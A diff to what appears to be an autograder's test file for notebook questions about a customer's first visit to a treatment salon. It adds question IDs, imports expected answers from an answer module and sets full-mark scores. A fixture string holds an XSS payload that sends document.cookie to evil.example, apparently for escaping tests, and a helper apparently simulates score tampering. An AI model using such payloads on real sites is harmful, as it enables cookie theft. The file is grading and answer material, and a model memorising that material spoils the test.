@@ -10,6 +10,8 @@ from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
+from tests.answers import solution
+
 HOSTILE = (
     "</script></textarea></pre><script>window.canary=1;alert(1)</script>"
     "<img src=x onerror=\"window.canary=1;fetch('http://evil.example/'+document.cookie)\">"
@@ -20,7 +22,12 @@ ORDER = "journey.first-visit.order"
 FEEL = "journey.first-visit.feel"
 LEAVE = "journey.first-visit.leave"
 CHANGE = "journey.first-visit.change"
-KINDS = {ORDER: "order", FEEL: "rate", LEAVE: "numeric", CHANGE: "written"}
+FIRM, LOW = "journey.typical.firm", "journey.month.low"
+DIFFERENCES, DECIDE = "journey.returning.differences", "journey.repair.decide"
+KINDS = {
+    **{ORDER: "order", FEEL: "rate", LEAVE: "numeric", CHANGE: "written"},
+    **{FIRM: "choose", LOW: "choose", DIFFERENCES: "sort", DECIDE: "sort"},
+}
 CELLS = {name: name.replace(".", "-") for name in KINDS}
 STEPS = [
     *("notice", "look-up", "prices", "book", "confirm", "arrive", "welcome", "skin-talk", "patch-test", "treatment"),
@@ -41,6 +48,7 @@ RIGHT: dict[str, Any] = {
     },
     LEAVE: {"text": "94 customers"},
     CHANGE: {"text": 'Put a lamp and a bell at the door. They would see light: "pitch black", two said.', "ticks": [0]},
+    **{name: value for name, value in solution().items() if name in (FIRM, LOW, DIFFERENCES, DECIDE)},
 }
 
 
@@ -117,8 +125,8 @@ def raise_points(notebook: dict[str, Any]) -> None:
             cell["source"] = "1000.0"
 
 
-NOTHING = {ORDER: 0.0, FEEL: 0.0, LEAVE: 0.0, CHANGE: 0.0}
-FULL = {ORDER: 6.0, FEEL: 6.0, LEAVE: 3.0}
+NOTHING = dict.fromkeys(KINDS, 0.0)
+FULL = {ORDER: 6.0, FEEL: 6.0, LEAVE: 3.0, FIRM: 3.0, LOW: 2.0, DIFFERENCES: 4.0, DECIDE: 4.0}
 HALF_ORDER = {"order": [*STEPS[3:6], *STEPS[:3], *STEPS[6:], "club-card"], "out": ["stock-delivery", "staff-rota"]}
 
 
